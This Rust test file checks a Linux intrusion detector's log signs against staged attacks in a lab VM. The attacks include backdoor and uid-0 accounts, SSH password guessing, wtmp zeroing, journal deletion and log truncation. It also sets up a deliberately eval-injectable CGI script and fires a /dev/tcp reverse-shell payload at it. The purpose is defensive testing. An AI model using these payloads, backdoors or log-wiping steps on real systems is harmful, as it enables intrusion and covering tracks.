//! Stories that logs tell, written by real daemons: each deed is done, each is found by its sign,
//! and what is like it but innocent is not.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test fails by panicking")]

use serde_json::Value;
use stanch_range::{Ran, Victim, debian, possible};

/// An account with a password that a guesser would try (`spring-2026`), made without a trace in the
/// logs.
const ACCOUNT: &str = r"
    echo 'bob:x:1000:1000::/home/bob:/bin/bash' >> /etc/passwd
    echo 'bob:x:1000:' >> /etc/group
    echo 'bob:$6$stanchrange$n1Av1Yh9i7nSptmeISWo1I1H7lA6KiagKTF46dxE3IpvQXTbyK8huM.Vunyndx7ox74PZDopY7bjgTWH6tNBw0:20000:0:99999:7:::' >> /etc/shadow
    mkdir -p /home/bob; chown 1000:1000 /home/bob
    cp -p /etc/passwd /etc/passwd-; cp -p /etc/shadow /etc/shadow-; cp -p /etc/group /etc/group-
";

fn victim() -> Victim {
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim.shell(ACCOUNT).unwrap();
    victim
}

/// What a client needs to give a password without a terminal: it reads it from what this prints.
const PASSWORD: &str = r#"
    printf '#!/bin/sh\nprintf "%%s\\n" "$SECRET"\n' > /run/range/askpass
    chmod 755 /run/range/askpass
"#;

/// Options of every client: it keeps nothing, and waits for nobody.
const CLIENT: &str = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o ConnectTimeout=5 -o LogLevel=ERROR";

/// Logs in from the peer by a password, which is tried as often as said. Without a session of its
/// own the client asks the terminal, and waits for ever.
fn by_password(password: &str, times: u32, command: &str) -> String {
    format!(
        "SECRET={password} SSH_ASKPASS=/run/range/askpass SSH_ASKPASS_REQUIRE=force \
         setsid --wait ssh {CLIENT} -o PreferredAuthentications=password \
         -o NumberOfPasswordPrompts={times} bob@10.77.0.2 '{command}' </dev/null"
    )
}

/// Logs in from an address of the peer by a key.
fn by_key(address: &str, key: &str, user: &str, command: &str) -> String {
    format!(
        "ssh {CLIENT} -o BatchMode=yes -b {address} -i /run/range/{key} {user}@10.77.0.2 \
         '{command}' </dev/null"
    )
}

fn succeeded(ran: Ran) {
    assert_eq!(ran.code, 0, "{ran:?}");
}

/// Returns the level of a sign's finding about something and the lines of its evidence
/// (`source:line excerpt`).
fn told(findings: &[Value], sign: &str, about: &str) -> (String, Vec<String>) {
    let one = findings
        .iter()
        .find(|finding| finding["sign"] == sign && finding["seen"].to_string().contains(about));
    assert!(one.is_some(), "{sign} says nothing of {about}: {findings:#?}");
    let one = one.unwrap();
    let lines = one["evidence"].as_array().unwrap().iter();
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let lines = lines
        .map(|line| {
            format!("{}:{} {}", text(&line["source"]), line["line"], text(&line["excerpt"]))
        })
        .collect();
    (text(&one["level"]), lines)
}

/// Returns the line `path:number text` of the first line in a file that holds a text.
fn line_of(victim: &Victim, path: &str, text: &str) -> String {
    let ran = victim.run(&["grep", "-nFm1", "--", text, path]).unwrap();
    let (number, line) = ran.out.trim_end().split_once(':').unwrap();
    format!("{path}:{number} {line}")
}

fn findings(victim: &Victim) -> Vec<Value> {
    let (document, _) = victim.stanch(&["detect", "--only", "logs"]).unwrap();
    document["findings"].as_array().unwrap().clone()
}

/// Returns `level sign seen` of all findings above a note.
fn grave(findings: &[Value]) -> Vec<String> {
    let above = |finding: &&Value| !matches!(finding["level"].as_str().unwrap(), "info" | "low");
    let told =
        |finding: &Value| format!("{} {} {}", finding["level"], finding["sign"], finding["seen"]);
    findings.iter().filter(above).map(told).collect()
}

/// Returns such a line as evidence tells it: without the time and the host.
fn as_told(line: &str) -> String {
    let (place, text) = line.split_once(' ').unwrap();
    format!("{place} {}", text.split_once("victim ").unwrap().1)
}

/// An hour goes by, for which nobody can wait: what dpkg and useradd wrote was written before it.
const AN_HOUR: &str = r#"
    while read -r day time rest; do
        echo "$(date -d "$day $time 1 hour ago" '+%F %T') $rest"
    done < /var/log/dpkg.log > /run/range/dpkg.log
    while read -r time rest; do
        echo "$(date -u -d "$time 1 hour ago" '+%FT%T.%6N+00:00') $rest"
    done < /var/log/auth.log > /run/range/auth.log
    for log in dpkg.log auth.log; do cat /run/range/$log > /var/log/$log; done
"#;

#[test]
fn an_account_added_and_made_an_administrator_is_found_and_a_packages_own_is_not() {
    if !possible() {
        return;
    }
    let victim = victim();
    // A package whose account is not there: its maintainer script makes it anew.
    let installed = victim
        .shell(
            "dpkg --purge openssh-server 2>&1; sed -i /^sshd:/d /etc/passwd /etc/shadow
             cp -p /etc/passwd /etc/passwd-; cp -p /etc/shadow /etc/shadow-
             dpkg -i /srv/packages/openssh-server_*.deb 2>&1
             sleep 0.5; grep ^sshd: /etc/passwd",
        )
        .unwrap();
    let log = "/var/log/auth.log";
    assert!(line_of(&victim, log, "new user: name=sshd").contains("useradd"), "{installed}");
    let found = findings(&victim);
    assert_eq!(grave(&found), Vec::<String>::new());
    let of_package = |one: &&Value| one["sign"] == "logs.account-added";
    assert_eq!(found.iter().find(of_package), None);

    victim.shell(AN_HOUR).unwrap();
    // As administrators are made, too: two notes, each with its line.
    victim.shell("useradd -m -s /bin/bash support; usermod -aG sudo support; sleep 0.5").unwrap();
    let found = findings(&victim);
    for (sign, words) in [
        ("logs.account-added", "new user: name=support"),
        ("logs.joined-powerful-group", "add 'support' to group 'sudo'"),
    ] {
        let (level, lines) = told(&found, sign, "support");
        let line = as_told(&line_of(&victim, log, words));
        assert!(level == "low" && lines.contains(&line), "{sign} {level} {line}: {lines:#?}");
    }
    assert_eq!(grave(&found), Vec::<String>::new());

    // As they are not: a second root, and a visit to the group of administrators.
    victim
        .shell(
            "useradd -o -u 0 -g 0 -d /root -s /bin/bash toor
             gpasswd -d support sudo; sleep 0.5",
        )
        .unwrap();
    let found = findings(&victim);
    for (sign, about, expected, words) in [
        ("logs.account-added", "toor", "high", "new user: name=toor"),
        ("logs.joined-powerful-group", "support", "medium", "add 'support' to group 'sudo'"),
    ] {
        let (level, lines) = told(&found, sign, about);
        let line = as_told(&line_of(&victim, log, words));
        assert!(level == expected && lines.contains(&line), "{sign} {level} {line}: {lines:#?}");
    }
    let signs: Vec<_> = found.iter().filter(|one| one["sign"] == "logs.account-added").collect();
    assert_eq!(signs.len(), 2, "the package's account is still nobody's finding: {signs:#?}");
}

#[test]
fn a_dozen_guesses_and_a_success_are_found_and_two_typos_are_not() {
    if !possible() {
        return;
    }
    let victim = victim();
    victim.shell(PASSWORD).unwrap();
    let typos = format!(
        "{} && exit 1; {}",
        by_password("spring-2025", 2, "true"),
        by_password("spring-2026", 1, "true")
    );
    succeeded(victim.on_peer(&typos).unwrap());
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());

    victim.add_peer_address("10.77.0.3/32").unwrap();
    let guess = |password: &str, times: u32| {
        by_password(password, times, "true").replace("ssh -o", "ssh -b 10.77.0.3 -o")
    };
    let guesses: String =
        (1..=4).map(|number| format!("{} & ", guess(&format!("summer-{number}"), 3))).collect();
    succeeded(victim.on_peer(&format!("{guesses} wait; {}", guess("spring-2026", 1))).unwrap());
    let found = findings(&victim);
    let (level, lines) = told(&found, "logs.success-after-failures", "10.77.0.3");
    assert_eq!(level, "medium");
    let log = "/var/log/auth.log";
    let accepted = line_of(&victim, log, "Accepted password for bob from 10.77.0.3");
    let failed = line_of(&victim, log, "Failed password for bob from 10.77.0.3");
    for line in [accepted, failed] {
        assert!(lines.contains(&as_told(&line)), "{line}: {lines:#?}");
    }
    assert_eq!(grave(&found).len(), 1, "{found:#?}");
}

#[test]
fn a_key_from_an_address_never_seen_is_found_and_the_known_one_is_not() {
    if !possible() {
        return;
    }
    let victim = victim();
    victim
        .shell(
            "for key in known new; do ssh-keygen -q -t ed25519 -N '' -f /run/range/$key; done
             mkdir -p /root/.ssh; cat /run/range/*.pub > /root/.ssh/authorized_keys
             chmod 700 /root/.ssh; chmod 600 /root/.ssh/authorized_keys",
        )
        .unwrap();
    let known = by_key("10.77.0.1", "known", "root", "true");
    let logins: String = (0..4).map(|_| format!("{known} & {known} & {known} & wait; ")).collect();
    succeeded(victim.on_peer(&logins).unwrap());
    // Nine days go by, and the log is rotated.
    victim
        .shell(
            "sleep 0.5; past=$(date -d '9 days ago' +%F)
             sed \"s/^[0-9-]*T/${past}T/\" /var/log/auth.log > /var/log/auth.log.1
             touch -d '9 days ago' /var/log/auth.log.1; : > /var/log/auth.log",
        )
        .unwrap();
    succeeded(victim.on_peer(&known).unwrap());
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());

    victim.add_peer_address("45.77.0.9/32").unwrap();
    succeeded(victim.on_peer(&by_key("45.77.0.9", "new", "root", "true")).unwrap());
    let found = findings(&victim);
    let (level, lines) = told(&found, "logs.first-seen-login", "45.77.0.9");
    assert_eq!(level, "medium", "{found:#?}");
    let line = line_of(&victim, "/var/log/auth.log", "Accepted publickey for root from 45.77.0.9");
    assert!(lines.contains(&as_told(&line)), "{line}: {lines:#?}");
    assert_eq!(grave(&found).len(), 1, "{found:#?}");
}

#[test]
fn a_login_record_made_of_zeroes_is_found() {
    if !possible() {
        return;
    }
    let victim = victim();
    victim
        .shell(
            "ssh-keygen -q -t ed25519 -N '' -f /run/range/known; mkdir -p /root/.ssh
             cat /run/range/known.pub > /root/.ssh/authorized_keys; chmod -R go= /root/.ssh
             : > /run/utmp",
        )
        .unwrap();
    let session = by_key("10.77.0.1", "known", "root", "true").replace("ssh -o", "ssh -tt -o");
    succeeded(victim.on_peer(&format!("{session}; {session}; {session}; sleep 0.5")).unwrap());
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
    let size = victim.shell("stat -c %s /var/log/wtmp").unwrap();
    assert_eq!(size.trim(), "2304", "three logins and three logouts");
    victim
        .shell("dd if=/dev/zero of=/var/log/wtmp bs=384 seek=2 count=1 conv=notrunc status=none")
        .unwrap();
    let found = findings(&victim);
    let (level, lines) = told(&found, "logs.login-records-edited", "nothing but zeroes");
    assert_eq!(level, "high");
    assert!(lines[0].starts_with("/var/log/wtmp:3 00 00 00 00"), "{lines:#?}");
}

/// journald without systemd, keeping its files; lines of `logger` go to it.
const JOURNAL: &str = r"
    mount -t cgroup2 -o ro none /sys/fs/cgroup
    mkdir -p /run/systemd/journal /var/log/journal; systemd-machine-id-setup 2>/dev/null
    setsid --fork /lib/systemd/systemd-journald </dev/null >/dev/null 2>&1
    for wait in $(seq 50); do test -S /run/systemd/journal/io.systemd.journal && break; sleep 0.1; done
    ln -sf /run/systemd/journal/dev-log /dev/log; journalctl --flush
    for round in $(seq 6); do
        seq -f 'round %g' 80 | logger -t app; journalctl --sync; journalctl --rotate
    done
    seq -f 'last %g' 30 | logger -t app; journalctl --sync
";

#[test]
fn a_file_taken_out_of_the_journal_is_found_and_a_vacuum_is_not() {
    if !possible() {
        return;
    }
    let victim = victim();
    victim.shell(JOURNAL).unwrap();
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
    victim.shell("journalctl --vacuum-files=4 2>&1").unwrap();
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
    let kept = victim.shell("ls /var/log/journal/*/system@*").unwrap();
    let kept: Vec<&str> = kept.lines().collect();
    assert_eq!(kept.len(), 3, "what the vacuum left");
    victim.shell(&format!("rm '{}'", kept[1])).unwrap();
    let found = findings(&victim);
    let (level, lines) = told(&found, "logs.journal-cut", kept[2]);
    assert_eq!(level, "medium");
    assert!(lines.iter().any(|line| line.starts_with(kept[2])), "{lines:#?}");
    assert_eq!(grave(&found).len(), 1, "{found:#?}");
}

/// What cron's jobs leave in the logs, every ten minutes over some hours: the past, for which
/// nobody can wait.
fn beats(from: u32, to: u32) -> String {
    format!(
        r#"now=$(date +%s)
        for at in $(seq $((now - {from} * 3600)) 600 $((now - {to} * 3600))); do
            date -u -d @$at '+%FT%T.000001+00:00'
        done > /run/range/times
        user='pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'
        awk -v u="$user" '{{ print $1 " victim CRON[" 1000 + NR "]: " u }}' /run/range/times \
            >> /var/log/auth.log
        awk '{{ print $1 " victim CRON[" 1000 + NR "]: (root) CMD (true)" }}' /run/range/times \
            | tee -a /var/log/cron.log >> /var/log/syslog"#
    )
}

#[test]
fn a_log_cut_while_its_daemon_writes_is_found_and_logrotate_is_not() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim
        .shell(&format!(
            "kill $(cat /run/rsyslogd.pid) $(cat /run/crond.pid); sleep 0.5
             rm -f /var/log/*.log /var/log/syslog
             {}
             chown root:adm /var/log/auth.log /var/log/cron.log /var/log/syslog
             rsyslogd; sleep 0.3",
            beats(72, 12)
        ))
        .unwrap();
    // As the unit's reload does where systemd runs.
    victim
        .shell(
            "logrotate -f /etc/logrotate.d/rsyslog || true
             kill -HUP $(cat /run/rsyslogd.pid); sleep 0.5
             test -s /var/log/auth.log.1; test ! -s /var/log/auth.log",
        )
        .unwrap();
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
    victim
        .shell(&format!(
            "kill $(cat /run/rsyslogd.pid); sleep 0.5
             {}
             for log in auth.log cron.log syslog; do sort -o /var/log/$log /var/log/$log; done
             rsyslogd; sleep 0.3",
            beats(11, 0)
        ))
        .unwrap();
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());
    victim
        .shell(
            ": > /var/log/auth.log
             echo '@reboot root true' > /etc/cron.d/job
             rm -f /run/crond.reboot; cron; sleep 2; grep -q CRON /var/log/auth.log",
        )
        .unwrap();
    let found = findings(&victim);
    let (level, lines) = told(&found, "logs.log-cut", "/var/log/auth.log");
    assert_eq!(level, "high", "{found:#?}");
    let after = line_of(&victim, "/var/log/auth.log", "CRON[");
    assert!(lines.contains(&as_told(&after)), "{after}: {lines:#?}");
}

/// A weak script behind the web server, and a page. The socket is made where it stays: one that is
/// moved to another file system is nobody's.
const WEAK_SITE: &str = r#"
    mkdir -p /var/www/cgi-bin /var/www/html; echo welcome > /var/www/html/index.html
    cat > /var/www/cgi-bin/ping.sh <<'END'
#!/bin/bash
query=${QUERY_STRING//%20/ }; query=${query//%3B/;}; query=${query//%26/\&}
printf 'Content-Type: text/plain\r\n\r\n'
eval "echo ${query#host=}" 2>&1
END
    chmod 755 /var/www/cgi-bin/ping.sh
    cat > /etc/nginx/sites-enabled/default <<'END'
server {
    listen 80 default_server;
    root /var/www/html;
    location /cgi-bin/ {
        gzip off; root /var/www;
        include /etc/nginx/fastcgi_params;
        fastcgi_param SCRIPT_FILENAME /var/www$fastcgi_script_name;
        fastcgi_pass unix:/run/fcgiwrap/socket;
    }
}
END
    install -d -o www-data -g www-data /run/fcgiwrap
    setsid --fork setpriv --reuid www-data --regid www-data --clear-groups \
        fcgiwrap -c 2 -s unix:/run/fcgiwrap/socket </dev/null >/dev/null 2>&1
    for wait in $(seq 50); do test -S /run/fcgiwrap/socket && break; sleep 0.1; done
    nginx -s reload; sleep 0.5
"#;

fn ask(target: &str) -> String {
    format!(
        "timeout 3 bash -c 'exec 3<>/dev/tcp/10.77.0.2/80; \
         printf \"GET {} HTTP/1.0\\r\\nHost: victim\\r\\n\\r\\n\" >&3; cat <&3' || true; ",
        target.replace('%', "%%")
    )
}

#[test]
fn a_shell_started_through_a_weak_script_is_found_by_its_line_and_its_process() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim.shell(WEAK_SITE).unwrap();
    let visits: String =
        (0..6).map(|_| ask("/") + &ask("/cgi-bin/ping.sh?host=10.0.0.1")).collect();
    let visits = victim.on_peer(&visits).unwrap();
    assert!(visits.out.contains("\n10.0.0.1"), "the script answers: {visits:?}");
    assert_eq!(grave(&findings(&victim)), Vec::<String>::new());

    let mut listener = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
    let target =
        "/cgi-bin/ping.sh?host=x%3B/bin/bash%20-i%20>/dev/tcp/10.77.0.1/4444%200<%261%202>%261";
    let attack = victim.on_peer(&ask(target)).unwrap();
    let line = line_of(&victim, "/var/log/nginx/access.log", "/dev/tcp/");
    let place = line.split_once(' ').unwrap().0;
    let (document, _) = victim.stanch(&["detect"]).unwrap();
    let found = document["findings"].as_array().unwrap();
    let (level, lines) = told(found, "logs.web-attack-that-worked", "/dev/tcp/");
    assert!(matches!(level.as_str(), "high" | "critical"), "{level}: {found:#?} {attack:?}");
    assert!(lines.iter().any(|line| line.starts_with(&format!("{place} "))), "{place}: {lines:#?}");
    let shell = found.iter().any(|one| {
        one["sign"].as_str().unwrap().starts_with("processes.") && one["level"] == "critical"
    });
    assert!(shell, "{found:#?}");
    listener.kill().unwrap();
    listener.wait().unwrap();
}
